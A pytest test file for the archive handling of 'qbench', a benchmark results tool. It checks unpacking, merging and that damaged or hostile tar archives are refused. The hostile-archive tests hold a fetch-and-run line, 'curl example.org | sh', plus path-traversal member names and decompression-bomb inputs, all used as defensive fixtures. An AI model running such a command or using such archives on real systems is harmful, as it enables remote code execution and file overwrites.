"""A results folder that comes as one file, records.tar.xz."""

import io
import lzma
import re
import shutil
import sys
import tarfile
from concurrent.futures import ProcessPoolExecutor
from datetime import timedelta
from multiprocessing import get_context
from pathlib import Path

import pytest
from small_recipe import DEMO, qbench, small_recipe
from synthetic import make_store

from qbench.cli import app as cli
from qbench.errors import DamagedError, OutputError, ResultsError
from qbench.records import write_record
from qbench.store import ARCHIVE, Analyses, Store, run_id, runs

SETTINGS = {"sizes": {"arc_easy": 60, "wikitext": 6}, "failed": ("softpick/gptq-4bit",)}
PAIR = Path(__file__).parents[1] / "results" / "pair-27m"


@pytest.fixture(scope="module")
def whole(tmp_path_factory):
    """A folder of two runs, and what it gives as one file."""
    folder = tmp_path_factory.mktemp("whole") / "grid"
    make_store(folder, quantizers=("bf16",), **SETTINGS)
    make_store(folder, quantizers=("bf16", "gptq-4bit"), **SETTINGS)
    assert qbench("export", folder, "--to", "archive") == 0
    return folder


@pytest.fixture
def packed(whole, tmp_path):
    """Its archive alone, as a clone has it."""
    folder = tmp_path / "grid"
    folder.mkdir()
    shutil.copy(whole / ARCHIVE, folder)
    return folder


def files(folder):
    found = (path for path in folder.rglob("*") if path.is_file() and path.name[0] != ".")
    return {str(path.relative_to(folder)): path.read_bytes() for path in found}


def records(folder):
    return Store(folder).records()


def test_whatever_reads_it_first_unpacks_it(whole, packed):
    assert records(packed) == records(whole)
    assert files(packed) == files(whole)
    assert {name for name, _ in runs(packed)} == {name for name, _ in runs(whole)}


@pytest.mark.parametrize(
    "command",
    [("tables", "{}"), ("show", "{}/softpick/bf16"), ("compare", "{}", "{}"),
     ("explain", "{}/softmax/bf16", "{}/softpick/bf16"), ("view", "{}", "--export", "site")],
)  # fmt: skip
def test_every_command_reads_it(whole, packed, monkeypatch, command):
    monkeypatch.chdir(packed.parent)
    assert qbench(*(part.format(packed) for part in command)) == 0
    assert files(packed).items() >= files(whole).items()


def test_no_archive_is_made_of_a_damaged_folder(packed, tmp_path):
    records(packed)
    min(packed.glob("records/**/*.outcomes.parquet")).unlink()
    with pytest.raises(DamagedError, match=r"outcomes\.parquet: missing; run the recipe again"):
        qbench("export", packed, "--to", "archive", "--out", tmp_path / "again")
    assert not (tmp_path / "again").exists()
    with pytest.raises(ResultsError, match="--run: an archive has all runs"):
        qbench("export", packed, "--to", "archive", "--run", runs(packed)[0][0])


def test_analyses_alone_unpack_it(tmp_path):
    shutil.copy(PAIR / ARCHIVE, tmp_path)
    assert [one.cell for one in Analyses(tmp_path).records()] == ["softmax/bf16", "softpick/bf16"]


def test_the_same_files_give_the_same_archive(packed, tmp_path):
    assert qbench("export", packed, "--to", "archive", "--out", tmp_path / "again") == 0
    assert (tmp_path / "again" / ARCHIVE).read_bytes() == (packed / ARCHIVE).read_bytes()


def test_an_unpacking_that_was_stopped_is_finished(whole, packed):
    records(packed)
    (packed / "grid.json").unlink()
    one, *_, last = sorted(packed.glob("records/**/*.json"))
    one.write_bytes(one.read_bytes()[:40])
    last.unlink()
    assert records(packed) == records(whole)
    assert files(packed) == files(whole)


def newer(folder, tmp_path, **settings):
    """Another archive in ``folder``, as a pull brings it; gives the folder that it is of."""
    other = tmp_path / "theirs" / folder.name
    make_store(other, **{**SETTINGS, **settings})
    assert qbench("export", other, "--to", "archive", "--out", folder) == 0
    return other


def test_a_newer_archive_counts_and_what_was_run_since_stays(packed, tmp_path, capsys):
    make_store(packed, quantizers=("bf16", "hqq-2bit"), **SETTINGS)
    mine, run = files(packed), run_id(Store(packed).manifest())
    theirs = newer(packed, tmp_path, quantizers=("bf16", "gptq-3bit"), seed=1)
    assert ": newer than" not in capsys.readouterr().err
    assert records(packed) == records(theirs)
    (line,) = capsys.readouterr().err.splitlines()
    assert line.startswith(f"{packed / ARCHIVE}: newer than what lay beside it; its results are")
    for name in mine.keys() - {ARCHIVE, "grid.json"} - files(theirs).keys():
        assert files(packed)[name] == mine[name], "not a byte of one's own run is lost"
    assert {one.quantizer for one in Store(packed, run=run).records()} == {"bf16", "hqq-2bit"}
    make_store(packed, quantizers=("hqq-2bit",), **SETTINGS)
    assert {one.quantizer for one in records(packed)} == {"hqq-2bit"}, "it is unpacked once"


@pytest.mark.parametrize(
    ("mine", "theirs", "stays"),
    [(("ok", 0), ("ok", 1), False), (("ok", 1), ("ok", 0), True), (("ok", 0), ("ok", 0), False),
     (("ok", 0), ("failed", 1), True), (("failed", 1), ("ok", 0), False)],
)  # fmt: skip
def test_of_two_records_of_one_key_the_good_one_stays_or_the_later(
    packed, tmp_path, mine, theirs, stays
):
    (record, *_), other = records(packed), newer(packed, tmp_path, quantizers=("bf16",))
    for folder, (status, days), line in ((packed, mine, "mine"), (other, theirs, "theirs")):
        moment = record.finished + timedelta(days=days)
        changed = {"status": status, "finished": moment, "error": line}
        path = Path(folder) / Store(packed).path(record).relative_to(packed)
        write_record(path, record.model_copy(update=changed))
    assert qbench("export", other, "--to", "archive", "--out", packed) == 0
    assert Store(packed).get(record).error == ("mine" if stays else "theirs")


def test_where_all_is_there_a_folder_may_be_read_only(packed, monkeypatch):
    before = records(packed)
    (packed / ".unpacked").unlink()  # as an earlier version of qbench left it

    def refuse(path, payload=None):
        raise OutputError(f"{path}: cannot be written to (Read-only file system)")

    monkeypatch.setattr("qbench.store.require_folder", refuse)
    monkeypatch.setattr("qbench.store.write_atomically", refuse)
    assert records(packed) == before


def test_processes_unpack_it_once(whole, packed):
    with ProcessPoolExecutor(4, get_context("fork")) as pool:
        assert list(pool.map(records, [packed] * 4)) == [records(whole)] * 4
    assert files(packed) == files(whole)


def test_a_run_goes_on_from_it(tmp_path, capsys, own_cache):
    recipe = small_recipe(
        tmp_path, checkpoints={"softpick": str(DEMO / "softpick")}, tasks=["demo_lastword"],
        quantizers=["fp32"],
    )  # fmt: skip
    run = ("run", recipe, "--device", "cpu", "--out")
    assert qbench(*run, tmp_path / "out") == 0
    assert qbench("export", tmp_path / "out", "--to", "archive", "--out", tmp_path / "packed") == 0
    shutil.rmtree(tmp_path / "out")
    assert qbench(*run, tmp_path / "packed") == 0
    assert "softpick/fp32: already there" in capsys.readouterr().err


def cut(payload):
    return payload[: len(payload) // 2]


def short_by_its_checksum(payload):
    return payload[:-40]


def changed(payload):
    middle = len(payload) // 2
    return payload[:middle] + bytes([payload[middle] ^ 1]) + payload[middle + 1 :]


def other(_):
    return b"version https://git-lfs.github.com/spec/v1\n"


@pytest.mark.parametrize("damage", [cut, short_by_its_checksum, changed, other])
def test_a_damaged_archive_is_one_line_and_nothing_is_unpacked(packed, monkeypatch, capsys, damage):
    archive = packed / ARCHIVE
    archive.write_bytes(damage(archive.read_bytes()))
    monkeypatch.setattr(sys, "argv", ["qbench", "tables", str(packed)])
    with pytest.raises(SystemExit) as end:
        cli.main()
    assert end.value.code == 2
    (line,) = capsys.readouterr().err.splitlines()
    assert f"{archive}: damaged: " in line
    assert line.endswith("; fetch it again")
    assert list(files(packed)) == [ARCHIVE]


# A symbolic link in a foreign folder, and the command that would write through it.
LINKS = {
    "grid.json": ("show", "{}"), "grids": ("show", "{}"), "records": ("show", "{}"),
    ".unpacked": ("show", "{}"), ".lock": ("show", "{}"), "tables.md": ("tables", "{}"),
    "tables.csv": ("tables", "{}"), "report.html": ("report", "{}"),
    "export": ("export", "{}", "--to", "model-card"),
    "export/model-card/softmax__bf16.md": ("export", "{}", "--to", "model-card"),
    "analysis": ("show", "{}"),
}  # fmt: skip


@pytest.mark.parametrize("name", LINKS)
def test_nothing_is_written_through_a_link_of_a_results_folder(packed, capsys, name):
    if name.endswith(("md", "csv", "html")) or name == "export":
        records(packed)  # unpacked before
    if name == "analysis":  # of an archive that holds one
        with tarfile.open(PAIR / ARCHIVE) as pair, tarfile.open(packed / ARCHIVE, "w:xz") as mine:
            one = next(
                member for member in pair if re.match("analysis/softmax/.*json", member.name)
            )
            mine.addfile(one, pair.extractfile(one))
    outside = packed.parent / "outside"
    outside.mkdir()
    (outside / "file").write_text("mine")
    (packed / name).parent.mkdir(parents=True, exist_ok=True)
    is_file = "." in name
    (packed / name).symlink_to(outside / "file" if is_file else outside)
    try:
        qbench(*(part.format(packed) for part in LINKS[name]))
        said = capsys.readouterr().err  # tables are printed all the same
    except OutputError as error:
        said = str(error)
    assert "is a symbolic link; nothing is written through links" in said
    assert files(outside) == {"file": b"mine"}


def member(name, payload, **more):
    info = tarfile.TarInfo(name)
    info.size = len(payload)
    for key, value in more.items():
        setattr(info, key, value)
    return info, payload


SPARSE = {"GNU.sparse.map": "0,1", "GNU.sparse.size": str(2**40), "GNU.sparse.numblocks": "1"}
HOSTILE = {
    "any text": [member("grid.json", b"curl example.org | sh")],
    "another kind": [member("records/a/b/c.json", b'{"schema_version": 2}')],
    "a table of other content": [member("records/a/b/c.0123456789abcdef.outcomes.parquet", b"x")],
    "zeros": [member("records/a/b/c.json", bytes(2**21))],
    "a long header": [member("grid.json", b"", pax_headers={"comment": "x" * 2**21})],
    "many files": [member(f"other/{number}", b"") for number in range(200)],
    "a sparse file": [member("records/a/b/c.json", b"x", pax_headers=SPARSE)],
    "a name twice": 2 * [member("records/a/b/c.json", b"")],
}


@pytest.mark.parametrize("what", HOSTILE)
def test_a_hostile_archive_is_refused_before_a_byte_is_written(packed, monkeypatch, what):
    """The bounds are lowered, so that the files are small."""
    monkeypatch.setattr("qbench.store.LEAST_BOUND", 2**20)
    monkeypatch.setattr("qbench.store.MOST_FILES", 100)
    with tarfile.open(packed / ARCHIVE, "w:xz") as archive:
        for info, payload in HOSTILE[what]:
            archive.addfile(info, io.BytesIO(payload))
    with pytest.raises(DamagedError, match=r"damaged: .*; fetch it again"):
        Store(packed)
    assert list(files(packed)) == [ARCHIVE]


def test_zeros_behind_the_last_file_are_bounded(packed, monkeypatch):
    monkeypatch.setattr("qbench.store.LEAST_BOUND", 2**20)
    with lzma.open(packed / ARCHIVE, "wb") as file:
        file.write(bytes(2**22))
    with pytest.raises(DamagedError, match="unpacks to more than 1,048,576 bytes"):
        Store(packed)


def test_nothing_of_an_archive_lands_elsewhere(packed):
    """Names that lead out, links, and what is no results file stay in it."""
    records(packed)
    outside = f"{packed.parent}/out.json"
    with tarfile.open(packed / ARCHIVE, "w:xz") as archive:
        for name in ("../out.json", outside, "records/../../out.json", "tables.md"):
            archive.addfile(tarfile.TarInfo(name))
        link = tarfile.TarInfo("records/link.json")
        link.type, link.linkname = tarfile.SYMTYPE, "../grid.json"
        archive.addfile(link)
        archive.add(packed / "grid.json", "grid.json")
    shutil.rmtree(packed / "records")
    shutil.rmtree(packed / "grids")
    (packed / "grid.json").unlink()
    Store(packed)
    assert sorted(files(packed.parent)) == ["grid/grid.json", f"grid/{ARCHIVE}"]
